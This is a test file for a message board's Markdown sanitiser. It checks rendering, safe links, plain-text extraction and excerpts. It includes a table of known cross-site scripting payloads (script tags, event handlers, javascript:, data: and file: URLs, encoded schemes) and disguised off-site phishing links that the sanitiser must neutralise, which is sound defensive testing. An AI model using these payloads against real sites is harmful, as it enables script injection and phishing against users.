"""The board Markdown sanitiser: a table of known injection payloads, and the rendering rules."""
from html.parser import HTMLParser

import pytest

from rooms.boards.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, MAX_BODY_CHARS, excerpt, plain_text, render

OWN_IMAGE = "/api/boards/images/" + "a" * 32
REL = "noopener noreferrer nofollow ugc"


class Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str):
    parser = Collect()
    parser.feed(html)
    parser.close()
    return parser.elements


def url_is_safe(url: str) -> bool:
    lowered = "".join(url.split()).lower()
    head = lowered.split("/", 1)[0]
    scheme = head.split(":", 1)[0] if ":" in head else None
    return scheme in (None, "http", "https", "mailto", "tel")


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=p></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[click]( javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[click](https://example.org "t\\" onmouseover=\\"alert(1)")',
    '[click](https://example.org" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![tracking](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](' + OWN_IMAGE + ")",
    "![x](" + OWN_IMAGE + '" onerror="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
    "[a](https://example.org/\"><script>alert(1)</script>)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_payloads_are_neutralised(payload):
    html = render(payload)
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()) | (
            {"loading"} if tag == "img" else set())
        assert set(attrs) <= allowed, (attrs, html)
        assert not any(name.startswith("on") for name in attrs), html
        if tag == "a" and "href" in attrs:
            assert url_is_safe(attrs["href"]), html
            assert attrs["rel"] == REL, html
        if tag == "img":
            assert attrs.get("src") == OWN_IMAGE, html
    assert "<script" not in html.lower()
    values = " ".join(str(v) for _, attrs in elements(html) for v in attrs.values()).lower()
    # An event handler may survive only as quoted text inside a title or alt, never as an attribute.
    for word in ("javascript", "vbscript", "data:", "file:"):
        assert word not in values, html


@pytest.mark.parametrize("source, expected", [
    ("# Title", "<h2>Title</h2>"),
    ("## Sub", "<h3>Sub</h3>"),
    ("###### Six", "<h6>Six</h6>"),
    ("**太字**と*斜体*", "<p><strong>太字</strong>と<em>斜体</em></p>"),
    ("[相談の部屋](/boards/consult)", f'<p><a href="/boards/consult" rel="{REL}">相談の部屋</a></p>'),
    # Off-site: kept (public services, hotlines), with the real domain shown after the words.
    ("[外のページ](https://example.org/a?b=1)",
     f'<p><a href="https://example.org/a?b=1" rel="{REL}">外のページ</a> (example.org)</p>'),
    ("[市の窓口](HTTPS://City.Example.JP:8443/soudan)",
     f'<p><a href="HTTPS://City.Example.JP:8443/soudan" rel="{REL}">市の窓口</a> (city.example.jp)</p>'),
    ("<https://example.org/a>", f'<p><a href="https://example.org/a" rel="{REL}">https://example.org/a</a></p>'),
    ("[メール](mailto:help@example.org)", f'<p><a href="mailto:help@example.org" rel="{REL}">メール</a></p>'),
    ("[電話](tel:0000000000)", f'<p><a href="tel:0000000000" rel="{REL}">電話</a></p>'),
    ("![朝の絵](" + OWN_IMAGE + ")", f'<p><img src="{OWN_IMAGE}" alt="朝の絵" loading="lazy"></p>'),
    ("![小さな絵](" + OWN_IMAGE + "/thumb)", f'<p><img src="{OWN_IMAGE}/thumb" alt="小さな絵" loading="lazy"></p>'),
    ("![よその絵](https://example.org/a.png)", "<p>よその絵</p>"),
    ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>"),
    ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'),
    ("", ""),
])
def test_rendering_rules(source, expected):
    assert render(source).strip() == expected


def test_every_link_gets_noopener_noreferrer():
    html = render("[a](https://a.example) [b](/boards) <https://c.example>")
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert len(links) == 3
    assert all(a["rel"] == REL for a in links)


@pytest.mark.parametrize("source", [
    "[x](//evil.example/phish)",  # the reproduced one: protocol-relative, off-site in disguise
    "[x](///evil.example/phish)",
    "[x](//evil.example)",
    "[x](https:evil.example/phish)",  # from an http page a browser reads this as https://evil.example
    "[x](https:/evil.example/phish)",
    "[x](http:\\\\evil.example)",
    "[市役所](https://city.example.jp@evil.example/)",  # the words before @ are not the host
    "[x](https://)",
    '<a href="//evil.example/phish">x</a>',
])
def test_disguised_off_site_links_are_dropped(source):
    html = render(source)
    assert not any(tag == "a" or "href" in attrs for tag, attrs in elements(html)), html


def test_the_shown_domain_is_the_one_the_browser_goes_to():
    # An internationalised host is shown in its ASCII form, so look-alike letters cannot pose
    # as a familiar address; text that looks like an address does not hide the real one.
    html = render("[https://city.example.jp](https://city.example.jp.evil.example/)")
    assert html.strip().endswith("</a> (city.example.jp.evil.example)</p>"), html
    html = render("[相談窓口](https://相談.example/)")
    assert "(xn--" in html and ".example)" in html, html


def test_code_keeps_its_text_but_not_its_class():
    html = render("```js\nlet a = '<b>';\n```")
    assert "&lt;b&gt;" in html and "class=" not in html


def test_very_long_bodies_are_cut_at_the_limit():
    html = render("あ" * (MAX_BODY_CHARS + 500))
    assert html.count("あ") == MAX_BODY_CHARS


@pytest.mark.parametrize("source, expected", [
    ("# 見出し\n\n本文の**強調**と[リンク](https://example.org)", "見出し 本文の強調とリンク"),
    ("一行目\n二行目", "一行目 二行目"),
    ("![代わりの文](" + OWN_IMAGE + ")", "代わりの文"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),  # plain text: escaped wherever shown
    ("- one\n- two\n\n```\ncode\n```", "one two code"),
])
def test_plain_text(source, expected):
    assert plain_text(source) == expected


@pytest.mark.parametrize("source, limit, expected", [
    ("短い本文", 120, "短い本文"),
    ("はじめに。\n\nつぎの段落。", 120, "はじめに。つぎの段落。"),  # no stray space between Japanese sentences
    ("あ" * 50, 10, "あ" * 9 + "…"),
    ("one two three four five six", 20, "one two three four…"),
])
def test_excerpt(source, limit, expected):
    assert excerpt(source, limit) == expected
